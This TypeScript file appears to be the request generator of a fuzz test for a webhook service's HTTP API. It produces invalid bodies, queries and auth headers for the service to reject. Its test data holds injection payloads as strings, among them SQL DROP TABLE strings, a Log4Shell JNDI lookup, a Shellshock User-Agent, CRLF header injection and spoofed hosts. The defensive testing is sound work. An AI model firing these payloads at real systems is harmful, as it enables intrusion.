import {
  BAD_UTF8,
  CLIENT_ID_BAD,
  CONTENT_TYPES_BAD,
  DATE_BAD,
  EVENT_TYPE_BAD,
  ID_SEGMENTS_BAD,
  INJECTIONS,
  JUNK_QUERY_KEYS,
  LIMIT_BAD,
  MALFORMED_JSON,
  NAME_BAD,
  NOISE,
  NON_OBJECT_JSON,
  ORDERING_BAD,
  OUTCOME_BAD,
  PROVIDER_BAD,
  PROFILE_BAD,
  SIGNATURE_BAD,
  STATUS_BAD,
  UNICODE,
  UNKNOWN_KEYS,
  UNKNOWN_UUIDS,
  URL_BAD,
  UUID_STRINGS_BAD,
} from './corpus';
import type { Rng } from './prng';
import { ANSWER_BODIES_HOSTILE, ANSWER_CONTENT_ENCODINGS, ANSWER_CONTENT_TYPES } from './corpus';

export type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
export const METHODS: readonly Method[] = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'];
/** Methods Node's HTTP parser accepts but no route here takes: a 405 like any other wrong method. */
export const UNKNOWN_METHODS = ['TRACE', 'PROPFIND', 'PROPPATCH', 'SEARCH', 'PURGE', 'LOCK', 'UNLOCK', 'MKCOL', 'COPY', 'MOVE', 'REPORT', 'M-SEARCH', 'SUBSCRIBE', 'NOTIFY', 'ACL', 'BIND', 'LINK'];

export type BodyKind =
  | 'createWebhook'
  | 'updateWebhook'
  | 'recover'
  | 'publishEvent'
  | 'createUser'
  | 'createAccount'
  | 'createTenant'
  | 'createApiKey'
  | 'createPortalSession'
  | 'createEventType'
  | 'updateEventType'
  | 'updateSettings'
  | 'updateTenant';
export type QueryKind = 'listWebhooks' | 'listDeliveries' | 'listAccounts' | 'stats';
export type IdKind = 'webhook' | 'event' | 'delivery' | 'user' | 'account' | 'apiKey' | 'eventType';

/** What a route takes, so the generator knows how to make a request to it invalid. */
export interface RouteSpec {
  /** Which key opens it: the tenant key, the admin key, or none (public routes). */
  auth: 'tenant' | 'admin' | 'public';
  /**
   * A read-only route that takes no input: probed with junk around the request
   * and expected to answer 200 with this kind of content, not counted as a bad request.
   */
  probe?: 'json' | 'html';
  /** A page for people (the portal's login link): every bad request gets a 4xx HTML page, never JSON and never a 500. */
  page?: true;
  body?: BodyKind;
  query?: QueryKind;
}

/**
 * Every route of the API, by `METHOD /path`. The test checks this against the
 * routers, so a new route fails it until it is listed here (and so fuzzed).
 */
export const ROUTES: Record<string, RouteSpec> = {
  'POST /v1/webhooks': { auth: 'tenant', body: 'createWebhook' },
  'GET /v1/webhooks': { auth: 'tenant', query: 'listWebhooks' },
  'GET /v1/webhooks/:id': { auth: 'tenant' },
  'PATCH /v1/webhooks/:id': { auth: 'tenant', body: 'updateWebhook' },
  'DELETE /v1/webhooks/:id': { auth: 'tenant' },
  'POST /v1/webhooks/:id/pause': { auth: 'tenant' },
  'POST /v1/webhooks/:id/resume': { auth: 'tenant' },
  'POST /v1/webhooks/:id/disable': { auth: 'tenant' },
  'POST /v1/webhooks/:id/enable': { auth: 'tenant' },
  'POST /v1/webhooks/:id/recover': { auth: 'tenant', body: 'recover' },
  'POST /v1/webhooks/:id/test': { auth: 'tenant' },
  'POST /v1/webhooks/:id/secret/rotate': { auth: 'tenant' },
  'POST /v1/events': { auth: 'tenant', body: 'publishEvent' },
  'GET /v1/events/:id': { auth: 'tenant' },
  'DELETE /v1/events/:id/payload': { auth: 'tenant' },
  'GET /v1/deliveries': { auth: 'tenant', query: 'listDeliveries' },
  'GET /v1/deliveries/:id': { auth: 'tenant' },
  'POST /v1/deliveries/:id/retry': { auth: 'tenant' },
  'POST /v1/deliveries/:id/retry-now': { auth: 'tenant' },
  'POST /v1/deliveries/:id/cancel': { auth: 'tenant' },
  'POST /v1/users': { auth: 'tenant', body: 'createUser' },
  'GET /v1/users/:id': { auth: 'tenant' },
  'POST /v1/accounts': { auth: 'tenant', body: 'createAccount' },
  'GET /v1/accounts': { auth: 'tenant', query: 'listAccounts' },
  'GET /v1/accounts/:id': { auth: 'tenant' },
  'DELETE /v1/accounts/:id': { auth: 'tenant' },
  'POST /v1/accounts/:id/sync': { auth: 'tenant' },
  'POST /v1/accounts/:id/reconnect': { auth: 'tenant' },
  'POST /v1/api-keys': { auth: 'tenant', body: 'createApiKey' },
  'GET /v1/api-keys': { auth: 'tenant' },
  'DELETE /v1/api-keys/:id': { auth: 'tenant' },
  'POST /v1/tenants': { auth: 'admin', body: 'createTenant' },
  'PATCH /v1/tenants/:id': { auth: 'admin', body: 'updateTenant' },
  'POST /v1/signing-keys/rotate': { auth: 'admin' },
  'GET /.well-known/jwks.json': { auth: 'public', probe: 'json' },
  'GET /healthz': { auth: 'public', probe: 'json' },
  'GET /readyz': { auth: 'public', probe: 'json' },
  'GET /openapi.json': { auth: 'public', probe: 'json' },
  'GET /docs': { auth: 'public', probe: 'html' },
  'GET /docs/:asset': { auth: 'public' },
  'POST /v1/portal/sessions': { auth: 'tenant', body: 'createPortalSession' },
  'GET /v1/portal/session': { auth: 'tenant' },
  'DELETE /v1/portal/session': { auth: 'tenant' },
  'GET /v1/stats/webhooks': { auth: 'tenant', query: 'stats' },
  'GET /v1/stats/deliveries': { auth: 'tenant', query: 'stats' },
  'GET /v1/deliveries/:id/request': { auth: 'tenant' },
  'GET /portal': { auth: 'public', probe: 'html' },
  'GET /portal/login': { auth: 'public', page: true },
  'GET /portal/assets/:asset': { auth: 'public' },
  'POST /v1/event-types': { auth: 'tenant', body: 'createEventType' },
  'GET /v1/event-types': { auth: 'tenant' },
  'GET /v1/event-types/:name': { auth: 'tenant' },
  'PATCH /v1/event-types/:name': { auth: 'tenant', body: 'updateEventType' },
  'DELETE /v1/event-types/:name': { auth: 'tenant' },
  'GET /v1/settings': { auth: 'tenant' },
  'PATCH /v1/settings': { auth: 'tenant', body: 'updateSettings' },
};

const ID_KIND_BY_COLLECTION: Record<string, IdKind> = {
  webhooks: 'webhook',
  events: 'event',
  deliveries: 'delivery',
  users: 'user',
  accounts: 'account',
  'api-keys': 'apiKey',
  'event-types': 'eventType',
};

export interface FuzzRequest {
  /** The registered route it targets (`METHOD /path/:id`), or for a wrong method `METHOD /path (unregistered method)`. */
  route: string;
  /**
   * bad: must get a 4xx JSON error. probe: a read-only public route with junk
   * around it, must get a 200.
   */
  kind: 'bad' | 'probe';
  method: string;
  url: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** What makes it invalid (for the failure report). */
  why: string[];
  /** The one status it must get, where any 4xx would hide the hole it probes. */
  expectStatus?: number;
}

export interface FuzzContext {
  rng: Rng;
  tenantKey: string;
  adminKey: string;
  /** Ids of real rows of the tenant, so invalid requests also aim at things that exist. */
  ids: Partial<Record<IdKind, string>>;
  maxBodyBytes: number;
}

type FieldType =
  | 'name'
  | 'url'
  | 'events'
  | 'headers'
  | 'signature'
  | 'profile'
  | 'date'
  | 'eventType'
  | 'data'
  | 'idempotencyKey'
  | 'uuid'
  | 'provider'
  | 'demo'
  | 'clientId'
  | 'boolean'
  | 'description'
  | 'jsonSchema'
  | 'proxyUrl';

interface Field {
  type: FieldType;
  required: boolean;
}

const req = (type: FieldType): Field => ({ type, required: true });
const opt = (type: FieldType): Field => ({ type, required: false });

const FIELDS: Record<BodyKind, Record<string, Field>> = {
  createWebhook: { name: req('name'), url: req('url'), events: req('events'), headers: opt('headers'), profile: opt('profile'), signature: opt('signature') },
  updateWebhook: { name: opt('name'), url: opt('url'), events: opt('events'), headers: opt('headers'), profile: opt('profile'), signature: opt('signature') },
  recover: { since: req('date'), until: opt('date') },
  publishEvent: { type: req('eventType'), data: req('data'), idempotency_key: opt('idempotencyKey') },
  createUser: { login_name: req('name') },
  createAccount: { user_id: req('uuid'), provider: req('provider'), demo: opt('demo') },
  createTenant: { name: req('name'), client_id: opt('clientId'), default_profile: opt('profile') },
  createApiKey: { name: opt('name') },
  createPortalSession: { read_only: opt('boolean') },
  createEventType: { name: req('eventType'), description: opt('description'), schema: opt('jsonSchema'), deprecated: opt('boolean') },
  updateEventType: { description: opt('description'), schema: opt('jsonSchema'), deprecated: opt('boolean') },
  updateSettings: { strict_event_types: opt('boolean'), default_profile: opt('profile') },
  updateTenant: { egress_proxy_url: req('proxyUrl') },
};

/** Update bodies that must change at least one field: an empty one is refused. */
const AT_LEAST_ONE_FIELD: ReadonlySet<BodyKind> = new Set(['updateWebhook', 'updateEventType', 'updateSettings']);

// ---------------------------------------------------------------- values

/** A valid value of each field type, often with injection or unicode text inside where that stays valid. */
function validValue(rng: Rng, type: FieldType, ctx: FuzzContext): unknown {
  switch (type) {
    case 'name':
      return rng.chance(0.6) ? `Fuzz ${rng.pick(NOISE)}`.slice(0, 150) : `fuzz-${rng.hex(6)}`;
    case 'url':
      return rng.pick(['https://hooks.example.com/fuzz', `https://hooks.example.com/fuzz?q=${encodeURIComponent(rng.pick(INJECTIONS))}`]);
    case 'events':
      return rng.chance(0.5) ? ['order.created'] : ['*', 'order.created', 'accounts.updated'];
    case 'headers':
      return rng.chance(0.5) ? { 'X-Fuzz': 'v' } : { 'X-Fuzz': `latin1 \u00e9\u00ff`, 'X-Other': rng.pick(INJECTIONS.filter((s) => !/[\r\n]/.test(s))) };
    case 'signature':
      return rng.pick(['standard', 'hmac-sha256', 'hmac-sha512', 'ed25519']);
    case 'profile':
      // The profiles that take any signature scheme, so a valid body stays valid whatever its `signature`.
      return rng.pick(['standard', 'assets-server']);
    case 'date':
      return rng.pick(['2026-01-01', '2026-01-01T00:00:00Z', '2026-01-01T12:30:00.123+02:00']);
    case 'eventType':
      return rng.pick(['order.created', 'fuzz.event', 'PLAID_ACCOUNT_CONNECTED']);
    case 'data':
      return { note: rng.pick(NOISE), n: rng.int(-5, 5), nested: { list: [rng.pick(UNICODE), null, true] }, [rng.pick(NOISE)]: rng.pick(INJECTIONS) };
    case 'idempotencyKey':
      return `fuzz-${rng.hex(8)}-${rng.pick(UNICODE)}`;
    case 'uuid':
      return ctx.ids.user && rng.chance(0.5) ? ctx.ids.user : rng.uuid();
    case 'provider':
      return 'demo';
    case 'demo':
      return { outcomes: rng.chance(0.5) ? ['success'] : ['TemporaryFailureError', 'success'] };
    case 'clientId':
      return `fuzz-${rng.hex(8)}`;
    case 'boolean':
      return rng.chance(0.5);
    case 'description':
      return `${rng.pick(NOISE)} ${rng.pick(INJECTIONS)}`.slice(0, 500);
    case 'jsonSchema':
      return rng.pick([null, { type: 'object' }, { type: 'object', properties: { n: { type: 'integer' } }, required: ['n'] }]);
    case 'proxyUrl':
      return rng.pick([null, 'http://proxy.internal:3128', 'https://user:pass@proxy.internal:3129']);
  }
}

/** An HTTP header name (RFC 9110 token): "%2e%2e%2f" and "`id`" are fine names, so they do not count as bad ones. */
const HEADER_TOKEN = /^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,256}$/;

/** A webhook subscribes to event types or to "*". */
const SELECTOR_BAD = EVENT_TYPE_BAD.filter((s) => s !== '*');

const WRONG_FOR_STRING = [null, 0, -1, 3.14, 1e308, true, false, [], ['x'], {}, { $ne: null }];
const WRONG_FOR_ARRAY = [null, 0, 1, true, false, 'order.created', '', {}, { 0: 'order.created' }];
const WRONG_FOR_RECORD = [null, 0, 1, true, false, 'x', '', [], ['a'], [['X-A', 'v']]];
const WRONG_FOR_BOOLEAN = [null, 0, 1, 'true', 'false', 'yes', '', [], [true], {}];
/** A schema is an object or null: anything else. */
const WRONG_FOR_SCHEMA = [0, 1, true, false, 'x', '', '{"type":"object"}', ['object']];

function wrongType(rng: Rng, type: FieldType): unknown {
  switch (type) {
    case 'events':
      return rng.pick(WRONG_FOR_ARRAY);
    case 'headers':
    case 'data':
    case 'demo':
      return rng.pick(WRONG_FOR_RECORD);
    case 'boolean':
      return rng.pick(WRONG_FOR_BOOLEAN);
    case 'jsonSchema':
      return rng.pick(WRONG_FOR_SCHEMA);
    default:
      return rng.pick(WRONG_FOR_STRING);
  }
}

function hugeString(rng: Rng, min: number): string {
  const unit = rng.pick(['x', 'é', '🎉', 'ab', "'; DROP TABLE webhooks; --"]);
  // Lengths count code points (as the schemas do): an emoji is one.
  return unit.repeat(Math.ceil(rng.int(min, min * 20) / [...unit].length));
}

/** A value that the field's rules refuse. */
function invalidValue(rng: Rng, type: FieldType): { value: unknown; why: string } {
  if (rng.chance(0.25)) return { value: wrongType(rng, type), why: 'wrong type' };
  switch (type) {
    case 'name':
      return rng.chance(0.2) ? { value: hugeString(rng, 201), why: 'too long' } : { value: rng.pick(NAME_BAD), why: 'empty or too long' };
    case 'url':
      return { value: rng.pick(URL_BAD), why: 'bad url' };
    case 'events':
      return rng.pick([
        () => ({ value: [], why: 'no events' }),
        () => ({ value: [rng.pick(SELECTOR_BAD)], why: 'bad event type' }),
        () => ({ value: ['order.created', rng.pick(SELECTOR_BAD)], why: 'bad event type' }),
        () => ({ value: Array.from({ length: 101 }, (_, i) => `e${i}`), why: '101 events' }),
        () => ({ value: [wrongType(rng, 'name')], why: 'event of wrong type' }),
      ])();
    case 'headers':
      return rng.pick([
        () => ({ value: { 'Content-Type': 'text/plain' }, why: 'reserved header' }),
        () => ({ value: { 'webhook-signature': 'v1,forged' }, why: 'reserved header' }),
        () => ({ value: { 'X-Client-Id': 'spoof' }, why: 'reserved header' }),
        () => ({ value: { Host: 'evil.example' }, why: 'reserved header' }),
        () => ({ value: { 'X-A': 'a\r\nX-Injected: 1' }, why: 'CRLF in value' }),
        () => ({ value: { 'X-A': 'a\nb' }, why: 'LF in value' }),
        () => ({ value: { 'X-A': '\u0001' }, why: 'control char in value' }),
        () => ({ value: { 'X A': 'v' }, why: 'bad header name' }),
        () => ({ value: { '': 'v' }, why: 'empty header name' }),
        () => ({ value: { 'X-Ünï': 'v' }, why: 'non-token header name' }),
        () => ({ value: { 'X-A\n': 'v' }, why: 'bad header name' }),
        () => ({ value: { [rng.pick(INJECTIONS.filter((i) => !HEADER_TOKEN.test(i)))]: 'v' }, why: 'injection as header name' }),
        () => ({ value: { 'X-A': rng.pick(['🎉', '\u202e', 'שלום', '\ud800']) }, why: 'non-latin1 header value' }),
        () => ({ value: { 'X-A': rng.pick([1, null, true, ['v'], {}]) }, why: 'non-string header value' }),
        () => ({ value: { 'X-A': 'v'.repeat(4097) }, why: 'header value too long' }),
        () => ({ value: { 'X-A': 'a', 'x-a': 'b' }, why: 'repeated header' }),
        () => ({ value: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`X-H${i}`, 'v'])), why: '51 headers' }),
      ])();
    case 'signature':
      return { value: rng.pick(SIGNATURE_BAD), why: 'bad signature scheme' };
    case 'profile':
      return { value: rng.pick(PROFILE_BAD), why: 'unknown profile' };
    case 'date':
      return { value: rng.pick(DATE_BAD), why: 'bad date' };
    case 'eventType':
      return rng.chance(0.1) ? { value: hugeString(rng, 129), why: 'event type too long' } : { value: rng.pick(EVENT_TYPE_BAD), why: 'bad event type' };
    case 'data':
      return { value: wrongType(rng, 'data'), why: 'data not an object' };
    case 'idempotencyKey':
      return rng.chance(0.3) ? { value: '', why: 'empty idempotency key' } : { value: hugeString(rng, 256), why: 'idempotency key too long' };
    case 'uuid':
      return { value: rng.pick(UUID_STRINGS_BAD), why: 'not a uuid' };
    case 'provider':
      return { value: rng.pick(PROVIDER_BAD), why: 'unknown provider' };
    case 'demo':
      return rng.pick([
        () => ({ value: {}, why: 'demo without outcomes' }),
        () => ({ value: { outcomes: [] }, why: 'no outcomes' }),
        () => ({ value: { outcomes: [rng.pick(OUTCOME_BAD)] }, why: 'bad outcome' }),
        () => ({ value: { outcomes: ['success', rng.pick(OUTCOME_BAD)] }, why: 'bad outcome' }),
        () => ({ value: { outcomes: Array(101).fill('success') }, why: '101 outcomes' }),
        () => ({ value: { outcomes: 'success' }, why: 'outcomes not an array' }),
        () => ({ value: { outcomes: ['success'], [rng.pick(UNKNOWN_KEYS)]: 1 }, why: 'unknown field in demo' }),
      ])();
    case 'clientId':
      return { value: rng.pick(CLIENT_ID_BAD), why: 'bad client_id' };
    case 'boolean':
      return { value: rng.pick(WRONG_FOR_BOOLEAN), why: 'not a boolean' };
    case 'description':
      return { value: hugeString(rng, 1001), why: 'description too long' };
    case 'proxyUrl':
      return rng.pick([
        () => ({ value: rng.pick(['socks5://proxy:1080', 'http://proxy:3128/path', 'http://proxy:3128/?q=1', 'not a url', '', 'ftp://proxy']), why: 'bad proxy url' }),
        () => ({ value: rng.pick([42, true, {}, []]), why: 'proxy url not a string' }),
        () => ({ value: `http://${hugeString(rng, 2001)}`, why: 'proxy url too long' }),
      ])();
    case 'jsonSchema':
      if (rng.chance(0.5)) return { value: rng.pick(SCHEMAS_REFUSED), why: 'a schema the limits refuse (pattern syntax, size)' };
      return { value: rng.pick(WRONG_FOR_SCHEMA), why: 'schema not an object' };
  }
}

function validBody(rng: Rng, kind: BodyKind, ctx: FuzzContext, all = false): Record<string, unknown> {
  const body: Record<string, unknown> = {};
  for (const [name, field] of Object.entries(FIELDS[kind])) {
    if (field.required || all || rng.chance(0.4)) body[name] = validValue(rng, field.type, ctx);
  }
  if (AT_LEAST_ONE_FIELD.has(kind) && Object.keys(body).length === 0) {
    const [name, field] = Object.entries(FIELDS[kind])[0]!;
    body[name] = validValue(rng, field.type, ctx);
  }
  return body;
}

function deepValue(depth: number, rng: Rng): string {
  return rng.chance(0.5) ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

function appendRaw(json: string, key: string, rawValue: string): string {
  const inner = json.slice(1, -1);
  return `{${inner}${inner ? ',' : ''}${JSON.stringify(key)}:${rawValue}}`;
}

/** A JSON body for `kind` that its schema refuses, as raw text. */
function invalidBodyText(rng: Rng, kind: BodyKind, ctx: FuzzContext): { text: string; why: string[] } {
  const fields = FIELDS[kind];
  const names = Object.keys(fields);
  const required = names.filter((n) => fields[n]!.required);
  const mutations: Array<readonly [string, number]> = [
    ['unknown-field', 3],
    ['bad-value', 6],
    ['duplicate-key', 2],
    ['non-object', 1],
    ['too-deep', 1],
    ['missing', required.length > 0 || AT_LEAST_ONE_FIELD.has(kind) ? 2 : 0],
  ];
  const mutation = rng.weighted(mutations);
  const body = validBody(rng, kind, ctx);
  const why: string[] = [];
  const extraRaw: Array<[string, string]> = [];
  switch (mutation) {
    case 'unknown-field': {
      const key = rng.pick(UNKNOWN_KEYS);
      extraRaw.push([key, JSON.stringify(rng.chance(0.5) ? rng.pick(NOISE) : wrongType(rng, 'name'))]);
      why.push(`unknown field ${JSON.stringify(key.slice(0, 40))}`);
      break;
    }
    case 'bad-value': {
      const name = rng.pick(names);
      const bad = invalidValue(rng, fields[name]!.type);
      body[name] = bad.value;
      why.push(`${name}: ${bad.why}`);
      break;
    }
    case 'duplicate-key': {
      const name = rng.pick(names);
      const bad = invalidValue(rng, fields[name]!.type);
      if (!(name in body)) body[name] = validValue(rng, fields[name]!.type, ctx);
      extraRaw.push([name, JSON.stringify(bad.value)]);
      why.push(`duplicate key ${name}, last one invalid (${bad.why})`);
      break;
    }
    case 'non-object':
      return { text: rng.pick(NON_OBJECT_JSON), why: ['body not an object'] };
    case 'too-deep': {
      const depth = rng.pick([33, 34, 40, 100, 1000, 20_000]);
      const where = rng.chance(0.5) ? rng.pick(names) : rng.pick(UNKNOWN_KEYS);
      delete body[where];
      extraRaw.push([where, deepValue(depth, rng)]);
      why.push(`nested ${depth} deep`);
      break;
    }
    case 'missing': {
      if (AT_LEAST_ONE_FIELD.has(kind)) {
        for (const n of names) delete body[n];
        why.push('no field to change');
      } else {
        const name = rng.pick(required);
        delete body[name];
        why.push(`missing ${name}`);
      }
      break;
    }
  }
  // Sometimes pile on more damage.
  if (rng.chance(0.3)) {
    const name = rng.pick(names);
    const bad = invalidValue(rng, fields[name]!.type);
    body[name] = bad.value;
    why.push(`also ${name}: ${bad.why}`);
  }
  // Duplicate keys are only expressible as text; an unknown "__proto__" too (an object literal would set the prototype).
  let text = JSON.stringify(body);
  for (const [key, raw] of extraRaw) text = appendRaw(text, key, raw);
  return { text, why };
}

// ---------------------------------------------------------------- query

const VALID_QUERY: Record<QueryKind, (rng: Rng) => Record<string, string>> = {
  listWebhooks: (rng) => ({
    limit: String(rng.int(1, 200)),
    ordering: rng.pick(['id', 'created_at', '-created_at']),
    from_created_at_date: rng.pick(['2020-01-01', '2020-01-01T00:00:00Z']),
    to_created_at_date: rng.pick(['2030-12-31', '2030-12-31T23:59:59.999+01:00']),
  }),
  listDeliveries: (rng) => ({
    limit: String(rng.int(1, 200)),
    webhook_id: rng.uuid(),
    event_id: rng.uuid(),
    status: rng.pick(['pending', 'succeeded', 'failed', 'cancelled']),
  }),
  listAccounts: (rng) => ({ limit: String(rng.int(1, 200)), user_id: rng.uuid() }),
  stats: (rng) => ({ range: rng.pick(['hour', 'day']), webhook_id: rng.uuid() }),
};

const enc = encodeURIComponent;
const LOOSE_UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

function subset(rng: Rng, params: Record<string, string>): Array<[string, string]> {
  return Object.entries(params).filter(() => rng.chance(0.5));
}

function queryString(pairs: Array<[string, string, boolean?]>): string {
  return pairs.map(([k, v, raw]) => (raw ? `${k}=${v}` : `${enc(k)}=${enc(v)}`)).join('&');
}

function invalidQuery(rng: Rng, kind: QueryKind): { query: string; why: string } {
  const valid = VALID_QUERY[kind](rng);
  const pairs: Array<[string, string, boolean?]> = subset(rng, valid);
  const keys = Object.keys(valid);
  const drop = (k: string) => {
    const i = pairs.findIndex(([key]) => key === k);
    if (i >= 0) pairs.splice(i, 1);
  };
  const uuidKeys = keys.filter((k) => k.endsWith('_id'));
  const choice = rng.weighted<string>([
    ['unknown', 3],
    ['limit', 3],
    ['enum', kind === 'listAccounts' ? 0 : 2],
    ['date', kind === 'listWebhooks' ? 3 : 0],
    ['uuid', uuidKeys.length > 0 ? 3 : 0],
    ['cursor', 2],
    ['duplicate', 2],
    ['malformed-escape', 1],
  ]);
  let why: string;
  switch (choice) {
    case 'unknown': {
      const key = rng.pick(JUNK_QUERY_KEYS);
      pairs.push([key, rng.chance(0.5) ? rng.pick(NOISE.filter((s) => !/[\ud800-\udfff]/.test(s))) : '1']);
      why = `unknown query param ${JSON.stringify(key.slice(0, 40))}`;
      break;
    }
    case 'limit':
      drop('limit');
      pairs.push(['limit', rng.pick(LIMIT_BAD)]);
      why = 'bad limit';
      break;
    case 'enum': {
      const key = kind === 'listWebhooks' ? 'ordering' : 'status';
      drop(key);
      pairs.push([key, rng.pick(kind === 'listWebhooks' ? ORDERING_BAD : STATUS_BAD).replace(/[\ud800-\udfff]/g, '?')]);
      why = `bad ${key}`;
      break;
    }
    case 'date': {
      const key = rng.pick(['from_created_at_date', 'to_created_at_date']);
      drop(key);
      pairs.push([key, rng.pick(DATE_BAD).replace(/[\ud800-\udfff]/g, '?')]);
      why = `bad ${key}`;
      break;
    }
    case 'uuid': {
      const key = rng.pick(uuidKeys);
      drop(key);
      pairs.push([key, rng.pick(UUID_STRINGS_BAD).replace(/[\ud800-\udfff]/g, '?')]);
      why = `bad ${key}`;
      break;
    }
    case 'cursor':
      // Cursors are row ids: anything UUID-shaped is one the API could have issued.
      pairs.push(['cursor', rng.pick(UUID_STRINGS_BAD.filter((s) => !LOOSE_UUID.test(s))).replace(/[\ud800-\udfff]/g, '?')]);
      why = 'cursor the API did not issue';
      break;
    case 'duplicate': {
      const key = rng.pick(keys);
      drop(key);
      pairs.push([key, valid[key]!], [key, valid[key]!]);
      why = `duplicate query param ${key}`;
      break;
    }
    default: {
      // A percent escape that is not UTF-8, in a value that is invalid anyway.
      const key = rng.pick([...keys, 'cursor']);
      drop(key);
      pairs.push([key, rng.pick(['%E0%A4%A', '%zz', '%', '%ED%A0%80', '%C0%AF', '%FF%FE']), true]);
      why = `malformed escape in ${key}`;
    }
  }
  // Shuffle a little so the invalid one is not always last.
  if (rng.chance(0.5)) pairs.reverse();
  return { query: queryString(pairs), why };
}

function junkQuery(rng: Rng): string {
  const pairs: Array<[string, string, boolean?]> = [];
  const n = rng.int(1, 4);
  for (let i = 0; i < n; i++) {
    const k = rng.pick(JUNK_QUERY_KEYS);
    pairs.push(rng.chance(0.2) ? [enc(k), rng.pick(['%', '%zz', '%00', '%E0%A4%A']), true] : [k, rng.pick(NOISE).replace(/[\ud800-\udfff]/g, '?')]);
  }
  if (rng.chance(0.2)) pairs.push(['big', 'q'.repeat(rng.int(1000, 4000))]);
  return queryString(pairs);
}

// ---------------------------------------------------------------- headers and bodies

const JUNK_HEADERS: Array<Record<string, string>> = [
  { 'X-Forwarded-For': "127.0.0.1, '; DROP TABLE webhooks; --" },
  { 'X-Forwarded-Host': 'evil.example' },
  { 'X-Forwarded-Proto': 'gopher' },
  { 'X-Request-Id': '${jndi:ldap://x.example/a}' },
  { Accept: 'application/xml' },
  { Accept: '*/*;q=0, text/html;q=abc' },
  { 'Accept-Language': 'ar-SA, he;q=0.9, zz' },
  { 'Accept-Encoding': 'gzip;q=abc, br, zstd, identity;q=0' },
  { Cookie: `session=${'a'.repeat(2000)}; __proto__=1` },
  { 'X-HTTP-Method-Override': 'DELETE' },
  { 'X-Method-Override': 'PUT' },
  { Origin: 'null' },
  { 'If-None-Match': '*' },
  { 'If-Modified-Since': 'yesterday' },
  { Range: 'bytes=0-0,-1' },
  { 'Idempotency-Key': "'; DROP TABLE events; --" },
  { 'X-Latin1': 'caf\u00e9 \u00ff\u00fe' },
  { 'User-Agent': '() { :; }; echo vulnerable' },
  { Referer: 'javascript:alert(1)' },
  { 'X-Tenant-Id': '00000000-0000-0000-0000-000000000000' },
];

function badAuth(rng: Rng, ctx: FuzzContext, auth: 'tenant' | 'admin'): { value?: string; why: string } {
  const own = auth === 'admin' ? ctx.adminKey : ctx.tenantKey;
  const options: Array<() => { value?: string; why: string }> = [
    () => ({ why: 'no Authorization' }),
    () => ({ value: '', why: 'empty Authorization' }),
    () => ({ value: 'Bearer', why: 'Bearer without key' }),
    () => ({ value: 'Bearer ', why: 'Bearer with blank key' }),
    () => ({ value: `Basic ${Buffer.from('admin:admin').toString('base64')}`, why: 'Basic auth' }),
    () => ({ value: `Token ${own}`, why: 'wrong scheme' }),
    () => ({ value: own, why: 'no scheme' }),
    () => ({ value: `Bearer ${own}x`, why: 'key with extra char' }),
    () => ({ value: `Bearer ${own.slice(0, -1)}`, why: 'truncated key' }),
    () => ({ value: `Bearer ${own} ${own}`, why: 'two keys' }),
    () => ({ value: `Bearer hk_${'A'.repeat(12)}_${'b'.repeat(32)}`, why: 'made-up tenant key' }),
    () => ({ value: `Bearer hk_${"'OR'1'='1"}_x`, why: 'injection in key' }),
    () => ({ value: `Bearer ${rng.pick(["'--", '${jndi:ldap://x.example/a}', '{{7*7}}', 'null', 'undefined', '<script>'])}`, why: 'junk key' }),
    () => ({ value: `Bearer ${'A'.repeat(rng.int(1000, 4000))}`, why: 'huge key' }),
    () => ({ value: 'Bearer caf\u00e9\u00ff', why: 'latin1 key' }),
    () =>
      auth === 'admin'
        ? { value: `Bearer ${ctx.tenantKey}`, why: 'tenant key on an admin route' }
        : { value: `Bearer ${ctx.adminKey}`, why: 'admin key on a tenant route' },
  ];
  return rng.pick(options)();
}

/** A body the JSON middleware refuses before any route sees it. */
function badEncoding(rng: Rng, ctx: FuzzContext, kind: BodyKind | undefined): { body: string | Buffer; contentType: string; why: string } {
  const sample = () => JSON.stringify(kind ? validBody(rng, kind, ctx) : { note: rng.pick(NOISE) });
  const choice = rng.weighted<string>([
    ['malformed', 4],
    ['truncated', 1],
    ['content-type', 3],
    ['too-large', 1],
    ['too-deep', 2],
    ['nul', 1],
    ['utf8', 1],
  ]);
  switch (choice) {
    case 'malformed':
      return { body: rng.pick(MALFORMED_JSON), contentType: 'application/json', why: 'malformed JSON' };
    case 'truncated': {
      const text = sample();
      return { body: text.slice(0, rng.int(1, text.length - 1)), contentType: 'application/json', why: 'truncated JSON' };
    }
    case 'content-type':
      return { body: rng.chance(0.7) ? sample() : 'name=x', contentType: rng.pick(CONTENT_TYPES_BAD), why: 'not application/json' };
    case 'too-large': {
      const size = ctx.maxBodyBytes + rng.int(1, ctx.maxBodyBytes * 3);
      const text = rng.chance(0.5) ? `{"name":"${'x'.repeat(size)}"}` : `[${'1,'.repeat(Math.ceil(size / 2))}1]`;
      return { body: text, contentType: 'application/json', why: `body of ${text.length} bytes` };
    }
    case 'too-deep': {
      const depth = rng.pick([33, 34, 64, 500, 10_000, 30_000]);
      const text = rng.chance(0.5) ? deepValue(depth, rng) : appendRaw(sample(), 'nested', deepValue(depth, rng));
      return { body: text, contentType: 'application/json', why: `nested ${depth} deep` };
    }
    case 'nul': {
      const text = appendRaw(sample(), 'note', rng.chance(0.5) ? '"a\\u0000b"' : '"a\u0000b"');
      return { body: text, contentType: 'application/json', why: 'NUL character' };
    }
    default: {
      const text = sample();
      const at = text.length - 1;
      const bytes = Buffer.concat([Buffer.from(text.slice(0, at) + (text.length > 2 ? ',' : '') + '"bad":"'), Buffer.from(rng.pick(BAD_UTF8)), Buffer.from('"}')]);
      return { body: bytes, contentType: 'application/json', why: 'invalid UTF-8' };
    }
  }
}

/** Any JSON at all: for routes that ignore their body, next to something else that is invalid. */
function anyJson(rng: Rng, ctx: FuzzContext): string {
  return rng.pick([
    () => rng.pick(NON_OBJECT_JSON),
    () => JSON.stringify({ [rng.pick(UNKNOWN_KEYS)]: rng.pick(NOISE) }),
    () => JSON.stringify(validBody(rng, rng.pick(Object.keys(FIELDS) as BodyKind[]), ctx)),
    () => '{}',
  ])();
}

// ---------------------------------------------------------------- requests

